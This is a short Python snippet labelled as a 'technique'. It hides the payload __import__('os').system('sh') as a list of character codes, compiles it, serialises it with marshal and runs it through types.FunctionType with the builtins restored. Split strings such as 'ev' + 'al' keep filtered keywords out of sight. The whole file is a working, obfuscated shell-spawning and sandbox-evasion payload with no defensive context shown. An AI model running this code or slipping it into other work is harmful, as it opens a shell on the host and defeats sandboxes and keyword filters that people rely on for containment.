# technique: marshal-serialised code object (compiled elsewhere) loaded and executed via FunctionType
import marshal
import types

src = "".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41, 46,
                        115, 121, 115, 116, 101, 109, 40, 39, 115, 104, 39, 41]))
blob = marshal.dumps(compile(src, "<m>", "ev" + "al"))
code = marshal.loads(blob)
types.FunctionType(code, {"__bu" "iltins__": (lambda: 0).__globals__["__bu" "iltins__"]})()
